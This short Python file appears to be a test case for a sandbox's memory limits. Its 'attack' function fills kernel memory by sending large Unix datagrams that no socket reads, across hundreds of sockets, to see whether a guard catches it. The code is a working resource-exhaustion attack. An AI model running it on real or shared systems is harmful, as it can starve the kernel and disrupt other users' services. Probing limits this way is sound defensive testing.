# cases: 25, 29
# guard: limits
# fact: took more memory|had not returned
"""Takes too much of the kernel's memory in datagrams that nobody reads, and whose senders are closed."""
import socket
import time


def attack(bait):
    taken, readers = 0, []
    for number in range(400):
        readers.append(socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM))
        readers[-1].bind(f"\0{number}")
        for _ in range(10):
            with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
                sender.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)  # as large as this machine lets it be
                sender.setblocking(False)
                try:
                    while taken < bait["megabytes"] * 1_000_000:
                        taken += sender.sendto(bytes(150_000), f"\0{number}")
                except BlockingIOError:
                    continue
    time.sleep(0.2)  # whoever looks at the memory looks twenty times a second
    return f"{taken} bytes" if taken >= bait["megabytes"] * 1_000_000 else None
